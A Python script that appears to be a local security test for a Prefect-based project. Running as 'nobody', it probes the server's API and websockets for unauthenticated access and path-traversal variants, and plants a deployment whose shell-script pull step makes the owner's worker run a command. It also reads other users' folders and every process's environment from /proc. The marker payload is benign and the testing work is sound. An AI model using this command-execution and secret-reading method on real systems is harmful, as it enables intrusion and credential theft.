"""What another user of the machine can try: run as `nobody`, with nothing but what every user has.

    python -I stranger.py '{"ports": [4200], "folders": ["/home/me/.prefect"], "marker": "/tmp/was-here"}'

Prints as JSON what worked, and all that could be read. Everything is imported before the rights are given up, because
the interpreter may be in a folder that others cannot enter.
"""

from __future__ import annotations

import encodings.idna
import http.client
import json
import os
import socket
import sys
import uuid
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from websockets.exceptions import WebSocketException
from websockets.sync.client import connect

NOBODY = 65534
PATHS = (
    "/openapi.json", "/docs", "/redoc", "/api/docs", "/api/openapi.json", "/api/admin/settings", "/api/admin/version",
    "/api/flows/count", "/api/work_pools/idxflow", "/api/csrf-token?client=me", "/api/block_types/slug/secret",
    "//api/admin/settings", "/api//admin/settings", "/api/health/../admin/settings", "/api/admin/settings/health",
)  # fmt: skip
_ = encodings.idna  # asked for by name when a host is looked up
POOL = {"name": "strangers", "type": "process"}


def main(request: dict[str, Any]) -> dict[str, Any]:
    worked = [attempt for port in request["ports"] for attempt in attack(port, request["marker"])]
    read = {str(path): text for folder in request["folders"] for path, text in readable(Path(folder))}
    return {"user": os.getuid(), "worked": worked, "read": read, "commands": commands()}


def attack(port: int, marker: str) -> list[str]:
    worked = [f"GET {path}" for path in PATHS if ask(port, "GET", path)[0] < 400]
    if can_listen(port):
        worked.append(f"listen on {port}")
    event = {
        "event": "idxflow.inbox.complete",
        "occurred": datetime.now(UTC).isoformat(),
        "id": str(uuid.uuid4()),
        "resource": {"prefect.resource.id": "idxflow.inbox.stranger"},
        "payload": {"dataset": "digits", "dataset_file": "/tmp/stranger.toml", "source": None},
    }
    tries = [("work_pools/", POOL), ("events", [event]), ("enter", {"token": "x"}), ("flows/filter", {})]
    worked += [f"POST {path}" for path, body in tries if ask(port, "POST", f"/api/{path}", body)[0] < 400]
    worked += [f"POST /{path}" for path in ("enter",) if ask(port, "POST", f"/{path}", {"token": "x"})[0] < 400]
    worked += [f"websocket {path}, {how}" for path in ("events/in", "logs/out") for how in sockets(port, path, event)]
    return worked + plant(port, marker)


def plant(port: int, marker: str) -> list[str]:
    """Have a worker of the owner run a command: a deployment whose pull step is a shell script, and a run of it."""
    status, flow = ask(port, "POST", "/api/flows/", {"name": "stranger"})
    if status >= 400:
        return []
    step = {"prefect.deployments.steps.run_shell_script": {"script": f"touch {marker}"}}
    deployed = {
        "name": "stranger", "flow_id": flow["id"], "work_pool_name": "idxflow", "pull_steps": [step],
        "entrypoint": "flows.retrain.retrain",
    }  # fmt: skip
    ask(port, "POST", "/api/work_pools/", {"name": "idxflow", "type": "process"})
    status, deployment = ask(port, "POST", "/api/deployments/", deployed)
    if status >= 400:
        return ["a flow"]
    status, _ = ask(port, "POST", f"/api/deployments/{deployment['id']}/create_flow_run", {})
    return ["a deployment with a shell script", *(["a run of it"] if status < 400 else [])]


def ask(port: int, method: str, path: str, body: Any = None) -> tuple[int, Any]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=240)
    try:
        data = None if body is None else json.dumps(body)
        connection.request(method, path, data, {"Content-Type": "application/json"} if data else {})
        answer = connection.getresponse()
        content = answer.read()
    except (OSError, http.client.HTTPException):
        return 599, None
    finally:
        connection.close()
    try:
        return answer.status, json.loads(content)
    except ValueError:
        return answer.status, None


def sockets(port: int, path: str, event: Any) -> list[str]:
    """Return in which ways a websocket takes what is sent."""
    worked = []
    for how, protocols, first in (
        ("without a protocol", None, None),
        ("without a token", ["prefect"], {"type": "auth", "token": None}),
        ("with a wrong token", ["prefect"], {"type": "auth", "token": "idxflow:x"}),
        ("without asking", ["prefect"], event),
    ):
        try:
            with connect(f"ws://127.0.0.1:{port}/api/{path}", subprotocols=protocols, open_timeout=240) as opened:
                if first:
                    opened.send(json.dumps(first))
                    opened.recv(timeout=240)
                opened.send(json.dumps(event))
                opened.ping().wait(60)
                worked.append(how)
        except (OSError, WebSocketException):
            continue
    return worked


def can_listen(port: int) -> bool:
    with socket.socket() as taken:
        taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        try:
            taken.bind(("127.0.0.1", port))
            taken.listen()
        except OSError:
            return False
        return True


def readable(folder: Path) -> list[tuple[Path, str]]:
    texts = []
    for place, _, names in os.walk(folder):
        for name in names:
            try:
                texts.append((Path(place, name), Path(place, name).read_bytes()[:100_000].decode("latin-1")))
            except OSError:
                continue
    return texts


def commands() -> str:
    """The command lines, and what of environments can be read, of all processes."""
    texts = []
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("cmdline", "environ"):
            try:
                texts.append((process / name).read_bytes().replace(b"\0", b" ").decode("latin-1"))
            except OSError:
                continue
    return "\n".join(texts)


if __name__ == "__main__":
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    json.dump(main(json.loads(sys.argv[1])), sys.stdout)
